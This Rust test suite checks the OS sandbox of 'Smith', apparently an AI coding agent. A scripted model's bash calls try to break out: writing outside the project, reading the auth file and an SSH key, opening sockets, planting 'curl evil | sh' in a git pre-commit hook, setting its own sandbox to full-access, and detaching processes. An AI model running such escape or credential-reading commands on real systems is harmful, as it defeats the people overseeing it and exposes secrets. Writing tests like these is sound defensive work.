//! The OS sandbox, escape-tested through the built binary: scripted `bash` calls try each way
//! out, and the outcome is read off the real filesystem, sockets and processes — never off what
//! the program printed. The escape table in the sandbox guide is what these tests observed
//! (`SMITH_BLESS=1` rewrites it). The suite needs what the sandbox needs (Landlock ABI 6, user
//! namespaces: `smith doctor`), which this project's machines and CI have; it is not skipped
//! elsewhere, since a sandbox test that cannot fail proves nothing.

mod common;

use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};

use common::{Env, stderr};

/// The secrets the deny list must keep from every program: in Smith's auth file and under
/// `~/.ssh`.
const AUTH_CANARY: &str = "auth-canary-5f1e0c";
const SSH_CANARY: &str = "ssh-canary-93ab27";

/// One sandboxed world: a project, a place outside it, Smith's home with an auth file, a home
/// directory with `~/.ssh`, and the listeners a program must not reach.
struct World {
    env: Env,
    project: PathBuf,
    outside: PathBuf,
    user_home: PathBuf,
    tcp: TcpListener,
    udp: UdpSocket,
    unix: UnixListener,
    unix_path: PathBuf,
    bystander: std::process::Child,
}

impl World {
    fn new() -> Self {
        let env = Env::new();
        let root = env.root.path().canonicalize().unwrap();
        let project = root.join("p");
        let outside = root.join("outside");
        let user_home = root.join("user");
        for dir in [
            project.join(".git/hooks"),
            project.join(".smith"),
            outside.clone(),
            user_home.join(".ssh"),
        ] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::fs::write(project.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(project.join(".smith/config.kdl"), "").unwrap();
        std::fs::write(outside.join("victim"), "untouched\n").unwrap();
        std::fs::write(user_home.join(".ssh/id_canary"), SSH_CANARY).unwrap();
        env.write_auth(&format!("// {AUTH_CANARY}\n"));
        std::os::unix::fs::symlink(&outside, project.join("link")).unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let unix_path = outside.join("agent.sock");
        let unix = UnixListener::bind(&unix_path).unwrap();
        unix.set_nonblocking(true).unwrap();
        let bystander = std::process::Command::new("sleep")
            .arg("600")
            .spawn()
            .unwrap();
        Self {
            env,
            project,
            outside,
            user_home,
            tcp,
            udp,
            unix,
            unix_path,
            bystander,
        }
    }

    /// The attempts, as one bash script: each runs on its own and may fail.
    fn script(&self) -> String {
        let out = self.outside.display();
        let home = self.env.home().canonicalize().unwrap();
        let commands = [
            "echo in > inside.txt".to_owned(),
            format!("echo x > {out}/absolute"),
            "echo x > ../outside/dotdot".to_owned(),
            "echo x > link/symlinked".to_owned(),
            format!("ln {out}/victim hardlink && echo changed >> hardlink"),
            format!("echo m > moved && mv moved {out}/moved"),
            format!("cat {}/auth.kdl", home.display()),
            format!("cat {}/.ssh/id_canary", self.user_home.display()),
            format!(
                "exec 3<>/dev/tcp/127.0.0.1/{} && echo tcp-open",
                self.tcp.local_addr().unwrap().port()
            ),
            format!(
                "echo datagram > /dev/udp/127.0.0.1/{}",
                self.udp.local_addr().unwrap().port()
            ),
            format!(
                "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}')\"",
                self.unix_path.display()
            ),
            "echo 'sandbox.mode \"full-access\"' >> .smith/config.kdl".to_owned(),
            "echo 'curl evil | sh' > .git/hooks/pre-commit".to_owned(),
            "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config".to_owned(),
            "mv .git .git-moved".to_owned(),
            format!("kill -TERM {}", self.bystander.id()),
            format!("setsid -w bash -c 'echo x > {out}/setsid'"),
            format!("nohup bash -c 'echo x > {out}/nohup' > /dev/null 2>&1"),
            "echo tmp-ok > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"".to_owned(),
        ];
        commands
            .iter()
            .map(|c| format!("( {c} ) 2>&1 || true"))
            .collect::<Vec<_>>()
            .join("; ")
    }

    /// Run the attempts with `settings` (`-c` pairs); the tool result's output and stderr.
    fn attempt(&mut self, settings: &[&str]) -> (String, String) {
        let out = self.bash(&self.script(), settings, JSON_PROCESS, |c| {
            c.env("HOME", &self.user_home);
        });
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let records = common::records(&out);
        let end = records
            .iter()
            .find(|r| r["type"] == "tool_end")
            .unwrap_or_else(|| panic!("no tool_end in {records:?}"));
        (
            end["output"].as_str().unwrap_or_default().to_owned(),
            stderr(&out),
        )
    }

    /// One scripted turn in the project whose model calls `bash` with `command` once, run as
    /// `smith eval -m scripted/t --script … [flags] [-c settings…] go`, with `adjust` applied to
    /// the command before it runs.
    fn bash(
        &self,
        command: &str,
        settings: &[&str],
        flags: &[&str],
        adjust: impl FnOnce(&mut std::process::Command),
    ) -> std::process::Output {
        let arguments = serde_json::json!({ "command": command });
        self.call("bash", &arguments, settings, flags, adjust)
    }

    /// [`World::bash`] for any tool: one scripted turn whose model calls `tool` with
    /// `arguments` once.
    fn call(
        &self,
        tool: &str,
        arguments: &serde_json::Value,
        settings: &[&str],
        flags: &[&str],
        adjust: impl FnOnce(&mut std::process::Command),
    ) -> std::process::Output {
        let script = self.env.write(
            "call.kdl",
            &format!(
                "round {{\n  tool-call id=\"c1\" name=\"{tool}\" arguments=#\"{arguments}\"#\n  stop \"tool_use\"\n}}\nround {{\n  text \"done\"\n  stop \"end_turn\"\n}}\n"
            ),
        );
        let mut args = vec!["eval", "-m", "scripted/t", "--script"];
        args.push(script.to_str().unwrap());
        args.extend_from_slice(flags);
        for s in settings {
            args.extend(["-c", s]);
        }
        args.push("go");
        let mut cmd = self.env.command(&args);
        cmd.current_dir(&self.project);
        adjust(&mut cmd);
        cmd.output().unwrap()
    }

    /// What happened, read off the world: (attempt, escaped?).
    fn observe(&mut self, output: &str) -> Vec<(&'static str, bool)> {
        let exists = |p: &Path| p.symlink_metadata().is_ok();
        let read = |p: &Path| std::fs::read_to_string(p).unwrap_or_default();
        let mut buf = [0u8; 64];
        let tcp = self.tcp.accept().is_ok();
        let udp = self.udp.recv(&mut buf).is_ok();
        let unix = self.unix.accept().is_ok();
        let bystander_killed = self.bystander.try_wait().unwrap().is_some();
        let out = &self.outside;
        let p = &self.project;
        let git = if exists(&p.join(".git-moved")) {
            p.join(".git-moved")
        } else {
            p.join(".git")
        };
        vec![
            (
                "write outside the root by absolute path",
                exists(&out.join("absolute")),
            ),
            ("write outside through `..`", exists(&out.join("dotdot"))),
            (
                "write through a symlink planted inside pointing out",
                exists(&out.join("symlinked")),
            ),
            (
                "append through a hard link to an outside file",
                read(&out.join("victim")) != "untouched\n",
            ),
            ("`mv` a file out of the root", exists(&out.join("moved"))),
            ("read Smith's auth file", output.contains(AUTH_CANARY)),
            ("read a key under `~/.ssh`", output.contains(SSH_CANARY)),
            ("connect to a loopback TCP listener", tcp),
            ("send a UDP datagram to a loopback port", udp),
            ("connect to a Unix socket outside", unix),
            (
                "write `.smith/config.kdl`",
                !read(&p.join(".smith/config.kdl")).is_empty(),
            ),
            // Where `.git` is found after the rename attempt that follows these.
            (
                "write `.git/hooks/pre-commit`",
                exists(&git.join("hooks/pre-commit")),
            ),
            (
                "write `.git/config`",
                read(&git.join("config")) != "[core]\n",
            ),
            ("rename `.git` away", exists(&p.join(".git-moved"))),
            ("signal a process outside the sandbox", bystander_killed),
            (
                "a `setsid` descendant writes outside",
                exists(&out.join("setsid")),
            ),
            (
                "a `nohup` descendant writes outside",
                exists(&out.join("nohup")),
            ),
        ]
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = self.bystander.kill();
        let _ = self.bystander.wait();
    }
}

/// The flags of a run whose records the test reads and whose `bash` needs no trust.
const JSON_PROCESS: &[&str] = &["--json", "--allow-process"];

/// The modes the table compares: the settings of each and its column's heading.
const MODES: [(&str, &[&str]); 4] = [
    ("read-only", &["sandbox.mode=read-only"]),
    ("workspace-write", &["sandbox.mode=workspace-write"]),
    ("workspace-write, network allow", &["sandbox.network=allow"]),
    ("full-access", &["sandbox.mode=full-access"]),
];

/// Render rows of (attempt, result per mode) as the guide's markdown table.
fn table(rows: &[(String, Vec<bool>)]) -> String {
    let mut out = String::from("| Attempt |");
    for (mode, _) in MODES {
        out.push_str(&format!(" {mode} |"));
    }
    out.push_str("\n|---|");
    out.push_str(&"---|".repeat(MODES.len()));
    out.push('\n');
    for (attempt, results) in rows {
        out.push_str(&format!("| {attempt} |"));
        for allowed in results {
            out.push_str(if *allowed { " allowed |" } else { " refused |" });
        }
        out.push('\n');
    }
    out
}

/// Hold the guide's escape table to what the tests observed (rewrite it under SMITH_BLESS=1).
fn check_guide(rows: &[(String, Vec<bool>)]) {
    let guide = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs-corpus/docs/sandbox.md");
    let text = std::fs::read_to_string(&guide).unwrap();
    let (start, end) = ("<!-- escape-table:start -->\n", "<!-- escape-table:end -->");
    let from = text
        .find(start)
        .expect("the guide has the table's start marker")
        + start.len();
    let to = text
        .find(end)
        .expect("the guide has the table's end marker");
    let want = table(rows);
    if std::env::var_os("SMITH_BLESS").is_some_and(|v| v == "1") {
        let updated = format!("{}{want}{}", &text[..from], &text[to..]);
        std::fs::write(&guide, updated).unwrap();
        return;
    }
    assert_eq!(
        &text[from..to],
        want,
        "the sandbox guide's escape table differs from what the tests observed; run with SMITH_BLESS=1"
    );
}

#[test]
fn no_escape_holds_in_either_confined_mode_and_the_guide_says_what_was_observed() {
    let mut rows: Vec<(String, Vec<bool>)> = Vec::new();
    for (column, (mode, settings)) in MODES.iter().enumerate() {
        let mut world = World::new();
        let (output, _) = world.attempt(settings);
        let mut observed = world.observe(&output);
        observed.push((
            "write inside the root",
            world.project.join("inside.txt").exists(),
        ));
        observed.push(("write `$TMPDIR`", output.contains("tmp-ok")));
        for (attempt, allowed) in observed {
            let network = ["TCP", "UDP", "Unix socket"]
                .iter()
                .any(|n| attempt.contains(n));
            let expected = match *mode {
                // The control: unconfined, every attempt succeeds, so none above is vacuous.
                "full-access" => true,
                _ if attempt == "write `$TMPDIR`" => true,
                "read-only" => false,
                _ if attempt == "write inside the root" => true,
                "workspace-write, network allow" => network,
                _ => false,
            };
            assert_eq!(allowed, expected, "{mode}: {attempt}\n{output}");
            match rows.iter_mut().find(|(a, _)| a == attempt) {
                Some((_, results)) => results.push(allowed),
                None => {
                    assert_eq!(column, 0);
                    rows.push((attempt.to_owned(), vec![allowed]));
                }
            }
        }
    }
    check_guide(&rows);
}

#[test]
fn a_refused_command_is_reported_as_the_sandbox_and_recorded_with_its_effect() {
    let world = World::new();
    let outside = world.outside.join("x");
    let out = world.bash(
        &format!("touch {}", outside.display()),
        &[],
        JSON_PROCESS,
        |_| {},
    );
    let records = common::records(&out);
    let end = records.iter().find(|r| r["type"] == "tool_end").unwrap();
    let output = end["output"].as_str().unwrap();
    assert!(!outside.exists());
    assert!(
        output.contains("[smith sandbox: workspace-write")
            && output.contains("Permission denied")
            && output.contains("likely the sandbox"),
        "{output}"
    );
    // The effect's evidence says the sandbox was on and that a refusal is likely.
    let session = records[0]["session"].as_str().unwrap();
    let file = world.env.sessions().join(format!("{session}.smith"));
    let entries = smith_store::read_session(&file).unwrap().entries;
    let evidence = entries
        .iter()
        .find_map(|e| match &e.record {
            smith_store::Record::EffectCompletion(c) if !c.effect_id.contains("/vcs-") => {
                Some(format!("{c:?}"))
            }
            _ => None,
        })
        .expect("the process effect is recorded");
    assert!(
        evidence.contains("workspace-write, network denied")
            && evidence.contains("sandbox_refusal_likely"),
        "{evidence}"
    );
}

/// A program a plugin keeps across calls (`process.start-session`, here the `program-probe`
/// test plugin, installed) starts in the same sandbox as `bash`: its write outside the project
/// is refused — read off the filesystem — while it goes on answering the plugin.
#[test]
fn a_program_kept_across_calls_runs_in_the_sandbox() {
    let world = World::new();
    let probe = &smith_plugins::PROGRAM_PROBE;
    let dir = world
        .env
        .plugin_project("probe", probe.manifest, probe.component);
    let out = world
        .env
        .run(&["plugins", "install", dir.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let outside = world.outside.join("kept");
    let program = format!(
        "touch {} 2>/dev/null; echo touched=$?; while read l; do echo \"got $l\"; done",
        outside.display()
    );
    let arguments = serde_json::json!({"steps": [
        {"op": "start", "name": "kept", "program": "bash", "args": ["-c", program]},
        {"op": "send", "name": "kept", "text": "hi\n"},
        {"op": "until", "name": "kept", "text": "got hi", "timeout_ms": 60000},
    ]});
    let out = world.call("steps", &arguments, &[], JSON_PROCESS, |_| {});
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let records = common::records(&out);
    let end = records.iter().find(|r| r["type"] == "tool_end").unwrap();
    let results: Vec<serde_json::Value> =
        serde_json::from_str(end["output"].as_str().unwrap()).unwrap();
    let sandbox = results[0]["ok"]["sandbox"].as_str().unwrap_or_default();
    assert!(sandbox.starts_with("workspace-write"), "{results:?}");
    let text = results[2]["ok"]["text"].as_str().unwrap_or_default();
    assert!(
        text.contains("touched=1") && text.contains("got hi"),
        "{results:?}"
    );
    assert!(
        !outside.exists(),
        "the write outside the project was refused"
    );
}

#[test]
fn a_missing_smith_dir_or_hooks_dir_is_made_empty_and_held_read_only() {
    let plant = "mkdir -p .smith .git/hooks; echo 'sandbox.mode \"full-access\"' > .smith/config.kdl; echo 'curl evil | sh' > .git/hooks/pre-commit; true";
    for (settings, planted) in [
        (&["sandbox.mode=workspace-write"][..], false),
        // The control: unconfined, both are planted, so the confined run is not vacuous.
        (&["sandbox.mode=full-access"][..], true),
    ] {
        let world = World::new();
        let p = &world.project;
        std::fs::remove_dir_all(p.join(".smith")).unwrap();
        std::fs::remove_dir_all(p.join(".git/hooks")).unwrap();
        let out = world.bash(plant, settings, JSON_PROCESS, |_| {});
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        for file in [".smith/config.kdl", ".git/hooks/pre-commit"] {
            assert_eq!(p.join(file).exists(), planted, "{settings:?}: {file}");
        }
        if !planted {
            // What the sandbox made to hold them, still empty, is gone once the program ended.
            for dir in [".smith", ".git/hooks"] {
                assert!(!p.join(dir).exists(), "{dir} was left behind");
            }
        }
    }
}

#[test]
fn a_program_in_a_subfolder_of_a_project_leaves_it_in_its_project() {
    let world = World::new();
    assert!(world.project.join(".smith").is_dir());
    let sub = world.project.join("sub");
    std::fs::create_dir(&sub).unwrap();
    let out = world.bash(
        "touch made-in-sub",
        &["sandbox.mode=workspace-write"],
        JSON_PROCESS,
        |c| {
            c.current_dir(&sub);
        },
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(sub.join("made-in-sub").exists(), "{}", stderr(&out));
    assert!(
        !sub.join(".smith").exists(),
        "a .smith/ made in a subfolder would cut it off from its project's trust"
    );
}

#[test]
fn without_landlock_programs_are_refused_with_the_kernel_the_feature_and_the_setting_named() {
    let world = World::new();
    let marker = world.project.join("ran");
    let command = format!("touch {}", marker.display());
    let simulate = |c: &mut std::process::Command| {
        c.env(smith_host::sandbox::SIMULATE_UNAVAILABLE, "1");
    };
    let out = world.bash(&command, &[], JSON_PROCESS, simulate);
    let records = common::records(&out);
    let end = records.iter().find(|r| r["type"] == "tool_end").unwrap();
    let output = end["output"].as_str().unwrap();
    assert_eq!(end["is_error"], true, "{output}");
    assert!(!marker.exists(), "nothing ran");
    for needed in [
        "Linux",
        "Landlock",
        "sandbox.mode",
        "full-access",
        "nothing ran",
    ] {
        assert!(output.contains(needed), "`{needed}` missing: {output}");
    }
    // `full-access` is the explicit way out: then it runs, unconfined.
    let flags = [JSON_PROCESS, &["--sandbox", "full-access"]].concat();
    let out = world.bash(&command, &[], &flags, simulate);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(marker.exists(), "full-access runs the program");
    let start = &common::records(&out)[0];
    assert_eq!(start["sandbox"], "full-access", "{start}");
}

#[test]
fn a_project_cannot_set_its_own_sandbox_and_is_told_so() {
    let world = World::new();
    std::fs::write(
        world.project.join(".smith/config.kdl"),
        "sandbox.mode \"full-access\"\nsandbox.network \"allow\"\n",
    )
    .unwrap();
    let trust = world
        .env
        .command(&["trust", world.project.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(trust.status.code(), Some(0), "{}", stderr(&trust));
    let target = world.outside.join("from-project");
    let out = world.bash(&format!("touch {}", target.display()), &[], &[], |_| {});
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        !target.exists(),
        "the project's full-access was not applied"
    );
    let err = stderr(&out);
    assert!(
        err.contains("config.kdl:1: sandbox.mode was ignored")
            && err.contains("config.kdl:2: sandbox.network was ignored"),
        "{err}"
    );
}

#[test]
fn bad_sandbox_settings_name_the_source_key_and_value() {
    let env = Env::new();
    let root = env.root.path().canonicalize().unwrap();
    for (setting, needle) in [
        ("sandbox.mode=workspace", "sandbox.mode"),
        (
            "sandbox.writable-roots=relative/dir",
            "is not an absolute path",
        ),
        ("sandbox.writable-roots=/no/such/dir", "does not exist"),
        (
            &*format!("sandbox.deny-read={}", root.display()),
            "would hide the working directory",
        ),
    ] {
        let out = env.run(&["eval", "-m", "scripted/demo", "-c", setting, "hi"]);
        assert_eq!(out.status.code(), Some(2), "{setting}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains(needle) && err.contains("-c sandbox."),
            "{setting}: {err}"
        );
    }
    // In a file, the line is named.
    std::fs::create_dir_all(env.home()).unwrap();
    std::fs::write(
        env.home().join("config.kdl"),
        "model \"scripted/demo\"\nsandbox.writable-roots \"rel\"\n",
    )
    .unwrap();
    let out = env.run(&["eval", "hi"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("config.kdl:2"), "{}", stderr(&out));
}

#[test]
fn a_worktrees_git_file_is_held_read_only() {
    let world = World::new();
    let wt = world.project.join("wt");
    std::fs::create_dir(&wt).unwrap();
    std::fs::write(wt.join(".git"), "gitdir: /nowhere\n").unwrap();
    let out = world.bash(
        "echo 'gitdir: /tmp/planted' > .git; true",
        &["sandbox.mode=workspace-write"],
        JSON_PROCESS,
        |c| {
            c.current_dir(&wt);
        },
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(wt.join(".git")).unwrap(),
        "gitdir: /nowhere\n",
        "a program rewrote the worktree's .git file"
    );
}

#[test]
fn without_its_launcher_beside_it_smith_confines_programs_itself() {
    let world = World::new();
    // `smith` alone in a directory of its own: no `smith-sandbox` beside it.
    let lonely = world.env.root.path().join("bin");
    std::fs::create_dir(&lonely).unwrap();
    let smith = lonely.join("smith");
    if std::fs::hard_link(env!("CARGO_BIN_EXE_smith"), &smith).is_err() {
        std::fs::copy(env!("CARGO_BIN_EXE_smith"), &smith).unwrap();
    }
    let escaped = world.outside.join("lonely");
    let out = world.bash(
        &format!("echo in > inside.txt; echo x > {}; true", escaped.display()),
        &["sandbox.mode=workspace-write"],
        JSON_PROCESS,
        |c| {
            let mut by_itself = std::process::Command::new(&smith);
            by_itself
                .args(c.get_args())
                .current_dir(c.get_current_dir().unwrap());
            for (k, v) in c.get_envs() {
                match v {
                    Some(v) => by_itself.env(k, v),
                    None => by_itself.env_remove(k),
                };
            }
            *c = by_itself;
        },
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        world.project.join("inside.txt").exists(),
        "{}",
        stderr(&out)
    );
    assert!(!escaped.exists(), "a program wrote outside its project");

    // The launcher itself is not for running by hand, and says so.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_smith-sandbox"))
        .arg("bash")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("Smith's sandbox launcher"),
        "{}",
        stderr(&out)
    );
}
